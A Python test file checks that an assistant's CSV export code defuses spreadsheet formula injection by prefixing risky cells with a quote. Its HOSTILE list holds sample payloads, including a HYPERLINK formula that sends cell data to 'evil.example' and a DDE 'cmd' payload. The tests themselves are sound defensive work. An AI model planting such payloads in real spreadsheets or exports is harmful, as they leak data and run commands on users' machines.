"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection)."""

import csv
import io

import pytest

from assistant.storage.exports import TRIGGERS, csv_safe, frame_to_csv, to_csv

HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_triggers_are_neutralised(value):
    assert csv_safe(value) == "'" + value


def test_ordinary_values_are_unchanged():
    assert [csv_safe(v) for v in ("Camille Durand", "a=b", "", 3, -3, 2.5, True)] == \
           ["Camille Durand", "a=b", "", 3, -3, 2.5, True]
    assert csv_safe(None) == "" and csv_safe(float("nan")) == ""
    assert csv_safe(["=x", "y"]) == '["=x", "y"]'


def test_to_csv_round_trips_through_a_csv_reader_with_no_cell_starting_with_a_trigger():
    rows = [{"name": value, "score": n, "team": None} for n, value in enumerate(HOSTILE)] + [{"name": "Ana", "score": -1}]
    text = to_csv(rows, ["name", "score", "team"], headers=["Name", "=Score", "Team"])
    cells = list(csv.reader(io.StringIO(text, newline="")))
    assert cells[0] == ["Name", "'=Score", "Team"] and len(cells) == len(rows) + 1
    assert not any(cell.startswith(TRIGGERS) for row in cells for cell in row if not cell.lstrip("-").isdigit())
    assert cells[1][0] == "'" + HOSTILE[0] and cells[-1] == ["Ana", "-1", ""]


def test_dataframes_too():
    pd = pytest.importorskip("pandas")
    text = frame_to_csv(pd.DataFrame([{"title": "=EVIL()", "shares": 3, "score": float("nan")}]))
    assert text.splitlines() == ["title,shares,score", "'=EVIL(),3,"]
